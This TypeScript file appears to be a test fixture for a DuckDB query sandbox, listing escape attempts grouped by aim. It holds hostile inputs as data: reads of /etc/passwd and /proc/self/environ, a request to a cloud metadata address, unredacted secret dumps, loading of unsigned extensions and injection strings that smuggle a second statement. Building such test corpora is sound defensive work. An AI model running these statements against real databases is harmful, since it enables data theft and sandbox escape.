/**
 * Statements that reach for something beyond the database's own data. In them `{file}` is the database's own file,
 * `{folder}` a folder beside it with a canary in every format: canary.txt, .csv, .json, .parquet and .duckdb.
 */
const READING_FILES = `
SELECT * FROM read_text('{folder}/canary.txt')
SELECT * FROM read_text(['{folder}/canary.txt'])
SELECT * FROM read_text('file://{folder}/canary.txt')
SELECT * FROM read_text('{folder}/../{name}/canary.txt')
SELECT * FROM read_text('{folder}/*.txt')
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_text('/dev/stdin')
SELECT * FROM read_blob('{folder}/canary.txt')
SELECT * FROM read_csv('{folder}/canary.csv')
SELECT * FROM read_csv('{folder}/canary.txt', columns = {'a': 'VARCHAR'}, header = false)
SELECT * FROM read_csv('{folder}/canary.csv', filename = true)
SELECT * FROM read_csv(['{folder}/canary.csv', '{folder}/canary.txt'], union_by_name = true)
SELECT * FROM read_csv_auto('{folder}/canary.csv')
SELECT * FROM sniff_csv('{folder}/canary.csv')
SELECT * FROM read_json('{folder}/canary.json')
SELECT * FROM read_json_auto('{folder}/canary.json')
SELECT * FROM read_json_objects('{folder}/canary.json')
SELECT * FROM read_ndjson('{folder}/canary.json')
SELECT * FROM read_parquet('{folder}/canary.parquet')
SELECT * FROM parquet_scan('{folder}/canary.parquet')
SELECT * FROM parquet_metadata('{folder}/canary.parquet')
SELECT * FROM parquet_schema('{folder}/canary.parquet')
SELECT * FROM parquet_kv_metadata('{folder}/canary.parquet')
SELECT * FROM parquet_file_metadata('{folder}/canary.parquet')
SELECT * FROM parquet_full_metadata('{folder}/canary.parquet')
SELECT * FROM read_duckdb('{folder}/canary.duckdb', table_name = 't')
SELECT * FROM read_duckdb('{file}', table_name = 'items')
SELECT * FROM glob('{folder}/*')
SELECT * FROM glob('/etc/*')
SELECT * FROM '{folder}/canary.csv'
SELECT * FROM '{folder}/canary.parquet'
SELECT * FROM '{folder}/canary.json'
SELECT * FROM '{folder}/canary.duckdb'
SELECT * FROM '{folder}/*.csv'
SELECT * FROM "{folder}/canary.csv"
SELECT * FROM '/etc/passwd'
FROM '{folder}/canary.csv'
TABLE '{folder}/canary.csv'
DESCRIBE '{folder}/canary.csv'
DESCRIBE SELECT * FROM '{folder}/canary.csv'
DESCRIBE TABLE '{folder}/canary.csv'
SUMMARIZE '{folder}/canary.csv'
SUMMARIZE SELECT * FROM read_csv('{folder}/canary.csv')
PIVOT '{folder}/canary.csv' ON secret USING count(*)
UNPIVOT '{folder}/canary.csv' ON secret
SHOW TABLES FROM '{folder}/canary.duckdb'
SELECT * FROM items UNION ALL BY NAME SELECT * FROM '{folder}/canary.csv'
SELECT * FROM items WHERE name IN (FROM read_text('{folder}/canary.txt') SELECT content)
SELECT (SELECT content FROM read_text('{folder}/canary.txt')) AS content FROM items LIMIT 1
SELECT * FROM items, LATERAL (SELECT content FROM read_text('{folder}/canary.txt')) AS t
WITH t AS (SELECT * FROM read_text('{folder}/canary.txt')) SELECT * FROM t
WITH t AS MATERIALIZED (FROM '{folder}/canary.csv') FROM t
WITH RECURSIVE t AS (FROM read_text('{folder}/canary.txt') UNION SELECT * FROM t) FROM t
SELECT * FROM (VALUES ('{folder}/canary.txt')) AS v(path), read_text(v.path)
SELECT * FROM read_text((SELECT '{folder}/canary.txt'))
SELECT * FROM READ_TEXT('{folder}/canary.txt')
SELECT * FROM "read_text"('{folder}/canary.txt')
SELECT * FROM main.read_text('{folder}/canary.txt')
SELECT * FROM system.main.read_text('{folder}/canary.txt')
SELECT * FROM system.main."read_text" ('{folder}/canary.txt')
SELECT * FROM read_text/**/('{folder}/canary.txt')
SELECT * FROM read_text /* ( */ ('{folder}/canary.txt')
SELECT * FROM read_text($\${folder}/canary.txt$$)
SELECT * FROM read_text($tag$\{folder}/canary.txt$tag$)
SELECT * FROM read_text(E'{folder}/canary\\x2etxt')
SELECT * FROM U&"read\\005ftext"('{folder}/canary.txt')
SELECT * FROM\u00a0read_text('{folder}/canary.txt')
SELECT * FROM\u2003read_text\u200b('{folder}/canary.txt')
SELECT * FROM\u3000'{folder}/canary.csv'
SELECT/*\u00a0*/* FROM read_text('{folder}/canary.txt')
SELECT size FROM read_blob('{file}')
SELECT content FROM read_text('{file}')
SELECT * FROM system.main.read_blob('{file}')
SELECT * FROM read_blob(['{file}'])
SELECT * FROM read_blob('{file}*')
SELECT * FROM read_csv('{file}', columns = {'a': 'VARCHAR'}, header = false)
SELECT * FROM '{file}'
SELECT * FROM glob('{file}*')
SELECT * FROM read_blob('{file}.wal')
`;

const NETWORK = `
SELECT * FROM read_text('https://example.com/')
SELECT * FROM read_csv('http://127.0.0.1:1/data.csv')
SELECT * FROM 'https://example.com/data.csv'
SELECT * FROM 'https://example.com/data.parquet'
SELECT * FROM read_parquet('s3://bucket/data.parquet')
SELECT * FROM 'hf://datasets/a/b/c.csv'
SELECT * FROM read_blob('http://169.254.169.254/latest/meta-data/')
ATTACH 'https://example.com/data.duckdb' AS far
ATTACH 's3://bucket/data.duckdb' AS far
COPY items TO 'https://example.com/items.csv'
SELECT * FROM iceberg_scan('s3://bucket/table')
SELECT * FROM delta_scan('s3://bucket/table')
SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 'users')
SELECT * FROM sqlite_scan('{folder}/canary.duckdb', 't')
SELECT * FROM mysql_query('db', 'SELECT 1')
SELECT * FROM st_read('{folder}/canary.json')
`;

const OTHER_DATABASES = `
ATTACH '{folder}/canary.duckdb' AS other
ATTACH '{folder}/canary.duckdb' AS other (READ_ONLY)
ATTACH IF NOT EXISTS '{folder}/canary.duckdb'
ATTACH OR REPLACE '{folder}/canary.duckdb' AS other
ATTACH '{folder}/new.duckdb' AS fresh
ATTACH ':memory:' AS other
ATTACH '{file}' AS again
DETACH items
USE other
SELECT * FROM other.main.t
COPY FROM DATABASE system TO temp
COPY FROM DATABASE temp TO system (SCHEMA)
`;

const WRITING_FILES = `
COPY items TO '{folder}/out.csv'
COPY items TO '{folder}/out.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '/dev/stdout'
COPY (SELECT 1) TO '/dev/stderr' (FORMAT csv)
COPY items FROM '{folder}/canary.csv'
EXPORT DATABASE '{folder}/exported'
IMPORT DATABASE '{folder}'
PRAGMA export_database('{folder}/exported')
PRAGMA import_database('{folder}')
SET profiling_output = '{folder}/profile.json'
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{folder}/profile.json'
SET log_query_path = '{folder}/queries.log'
PRAGMA log_query_path = '{folder}/queries.log'
SET temp_directory = '{folder}'
SELECT * FROM write_log('x')
SELECT * FROM enable_profiling(save_location := '{folder}/profile.json')
SELECT * FROM enable_profiling(format := 'json', save_location := '{folder}/profile.json', mode := 'detailed')
CALL enable_profiling(save_location := '{folder}/profile.json')
`;

const EXTENSIONS = `
INSTALL httpfs
FORCE INSTALL json FROM community
INSTALL '{folder}/evil.duckdb_extension'
LOAD httpfs
LOAD '{folder}/evil.duckdb_extension'
UPDATE EXTENSIONS
UPDATE EXTENSIONS (httpfs)
SET extension_directory = '{folder}'
SET custom_extension_repository = 'http://127.0.0.1:1'
SET allow_unsigned_extensions = true
SET autoload_known_extensions = true
SELECT * FROM duckdb_extensions() WHERE read_text('{folder}/canary.txt') IS NOT NULL
`;

const SETTINGS = `
SET enable_external_access = true
SET GLOBAL enable_external_access = true
SET SESSION enable_external_access = true
RESET enable_external_access
PRAGMA enable_external_access = true
PRAGMA enable_external_access
SET lock_configuration = false
SET GLOBAL lock_configuration = false
RESET lock_configuration
RESET GLOBAL lock_configuration
PRAGMA lock_configuration = false
SET disabled_filesystems = ''
RESET disabled_filesystems
SET allowed_directories = ['/']
SET allowed_paths = ['{folder}/canary.txt']
SET memory_limit = '1TB'
PRAGMA memory_limit = '1TB'
SET max_expression_depth = 100000
SET threads = 64
PRAGMA threads = 64
SET file_search_path = '{folder}'
SET home_directory = '{folder}'
SET schema = 'information_schema'
SET search_path = 'temp,main'
SET VARIABLE x = (SELECT content FROM read_text('{folder}/canary.txt'))
SET enable_logging = true
CALL pragma_version()
PRAGMA database_list
PRAGMA enable_object_cache
PRAGMA verify_parallelism
PRAGMA table_info('items')
EXPLAIN ANALYZE SELECT * FROM read_text('{folder}/canary.txt')
EXPLAIN SELECT * FROM items
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE OR REPLACE TEMPORARY SECRET s (TYPE http, BEARER_TOKEN 'x')
DROP SECRET s
CHECKPOINT
FORCE CHECKPOINT
SELECT * FROM checkpoint()
SELECT * FROM force_checkpoint()
`;

const SECRETS = `
SELECT getenv('HOME')
SELECT getenv('CANARY')
CALL enable_logging('QueryLog')
CALL disable_logging()
CALL truncate_duckdb_logs()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_secrets(redact = false)
FROM "duckdb_secrets"()
SELECT * FROM enable_logging()
SELECT * FROM enable_logging('QueryLog', storage = 'stdout')
SELECT * FROM system.main.enable_logging('QueryLog', storage_path = '{folder}')
SELECT * FROM "enable_logging"()
SELECT * FROM disable_logging()
SELECT * FROM truncate_duckdb_logs()
SELECT * FROM duckdb_logs
SELECT * FROM duckdb_logs()
SELECT * FROM duckdb_log_contexts()
SELECT write_log('x')
SELECT * FROM enable_peg_parser()
SELECT * FROM "enable_peg_parser"()
SELECT * FROM system.main.disable_peg_parser()
CALL enable_peg_parser()
CALL disable_peg_parser()
SELECT * FROM enable_profiling()
SELECT * FROM disable_profiling()
CALL disable_profiling()
`;

const PUT_TOGETHER = `
SELECT * FROM query('SELECT * FROM read_text(''{folder}/canary.txt'')')
SELECT * FROM query('FROM enable' || '_logging()')
SELECT * FROM "query"('SELECT 1')
SELECT * FROM query_table('items')
SELECT * FROM query_table(['items', 'items'])
SELECT * FROM system.main.query('SELECT 1')
SELECT * FROM json_execute_serialized_sql('{}')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
PREPARE q AS SELECT * FROM read_text('{folder}/canary.txt')
EXECUTE q
DEALLOCATE q
CREATE MACRO m() AS TABLE SELECT * FROM read_text('{folder}/canary.txt')
CREATE TEMP MACRO m() AS TABLE SELECT * FROM read_text('{folder}/canary.txt')
CREATE TEMP VIEW w AS SELECT * FROM '{folder}/canary.csv'
CREATE TEMP TABLE w AS SELECT * FROM '{folder}/canary.csv'
INSERT INTO items (name) SELECT content FROM read_text('{folder}/canary.txt')
WITH gone AS (DELETE FROM items RETURNING *) SELECT * FROM gone
WITH gone AS MATERIALIZED (INSERT INTO items (id) VALUES (9999) RETURNING id) SELECT * FROM gone
SELECT * FROM (DELETE FROM items RETURNING *)
SELECT 1; SELECT * FROM read_text('{folder}/canary.txt')
SELECT 1; COPY items TO '{folder}/out.csv'
SELECT 1;; ATTACH '{folder}/canary.duckdb' AS other
; ATTACH '{folder}/canary.duckdb' AS other; SELECT 1
SELECT 1) AS q; COPY items TO '{folder}/out.csv'; SELECT * FROM (SELECT 1
SELECT 1) LIMIT 0; COPY items TO '{folder}/out.csv'; --
SELECT 1) UNION ALL SELECT content FROM read_text('{folder}/canary.txt') --
SELECT 1 /* */; COPY items TO '{folder}/out.csv' /* */
SELECT 1 /* /* */ */; COPY items TO '{folder}/out.csv'
SELECT 1 -- \r; COPY items TO '{folder}/out.csv'
SELECT '\u0000'; COPY items TO '{folder}/out.csv'
SELECT $$;$$; COPY items TO '{folder}/out.csv'
SELECT ';' AS "a;b"; COPY items TO '{folder}/out.csv'
BEGIN; COPY items TO '{folder}/out.csv'; COMMIT
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(1)
SELECT * FROM python_map_function(1)
SELECT * FROM seq_scan('items')
`;

const lines = (text: string): readonly string[] => text.split('\n').filter((line) => line !== '');

/** A statement that sleeps holds one of the engine's threads, which all callers share. */
const SLEEP = `
SELECT sleep_ms(10)
SELECT pg_sleep(0.01)
SELECT "sleep_ms"(10)
SELECT system.main.sleep_ms(10)
SELECT * FROM items WHERE sleep_ms(id) IS NULL
`;

/** Every escape, by what it reaches for. */
export const ESCAPES_BY_AIM = {
  'files, to read': lines(READING_FILES),
  'files, to write': lines(WRITING_FILES),
  'the network': lines(NETWORK),
  'other databases': lines(OTHER_DATABASES),
  extensions: lines(EXTENSIONS),
  'settings, secrets and upkeep': lines(SETTINGS),
  'what is kept from all': lines(SECRETS),
  'SQL put together from text': lines(PUT_TOGETHER),
  'hold up other callers': lines(SLEEP),
} as const;
